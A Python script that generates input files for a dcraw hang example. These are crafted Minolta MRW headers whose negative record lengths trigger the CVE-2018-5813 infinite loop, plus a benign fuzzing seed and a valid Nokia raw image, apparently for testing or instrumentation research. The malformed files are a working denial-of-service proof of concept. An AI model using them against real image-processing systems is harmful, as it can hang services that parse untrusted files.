#!/usr/bin/env python3
"""Writes the inputs of the dcraw hang example (README.md) into DIR.

Each is a Minolta MRW header as dcraw's parse_minolta() reads it: the bytes
"\\0MRM", a big-endian 32-bit length L (the records end at L + 8), then
records of a 4-byte tag and a big-endian 32-bit signed length, each record
followed by its data. After a record at position P, parse_minolta() seeks
to P + length + 8, so a negative length moves backwards: CVE-2018-5813.

  minolta-loop.mrw    one record of length -8: it is read again forever
                      (the loop's state repeats with period 1)
  minolta-loop2.mrw   two records, the second of length -16 leading back to
                      the first (period 2)
  benign.mrw          one record of length 0: parse_minolta() ends, and
                      dcraw says it cannot decode the file (the fuzzing seed)
  nokia.raw           a 64x48 raw image in the Nokia layout dcraw decodes
                      (8 bits a pixel, pseudo-random values, fixed seed):
                      `dcraw -c` takes it through its whole pipeline, so the
                      woven and plain builds can be compared on real work

Usage: make_inputs.py [DIR]   (default: inputs, beside this script)
"""
import os
import random
import struct
import sys


def mrw(records, data_end):
    """A header whose records end at data_end, followed by the records,
    padded with zeros to 64 bytes: dcraw reads a 32-byte file header first,
    and Debian's build of dcraw stops at a file shorter than that."""
    body = b"".join(tag + struct.pack(">i", length) for tag, length in records)
    return (b"\0MRM" + struct.pack(">I", data_end - 8) + body).ljust(64, b"\0")


def nokia_raw(width, height, seed):
    """dcraw's "NOKIARAW" layout: at byte 300, the pixel data's offset and
    size (little-endian 32 bits) and the width and height (16 bits); a
    size of width * height bytes means 8 bits a pixel."""
    offset = 512
    header = bytearray(offset)
    header[0:8] = b"NOKIARAW"
    header[300:312] = struct.pack("<IIHH", offset, width * height, width, height)
    rnd = random.Random(seed)
    return bytes(header) + bytes(rnd.randrange(16, 240) for _ in range(width * height))


INPUTS = {
    "minolta-loop.mrw": mrw([(b"ABCD", -8)], 16),
    "minolta-loop2.mrw": mrw([(b"ABCD", 0), (b"EFGH", -16)], 24),
    "benign.mrw": mrw([(b"ABCD", 0)], 16),
    "nokia.raw": nokia_raw(64, 48, 2018),
}


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, "inputs")
    os.makedirs(out, exist_ok=True)
    for name, data in INPUTS.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    print(f"{len(INPUTS)} inputs in {out}")


if __name__ == "__main__":
    main()
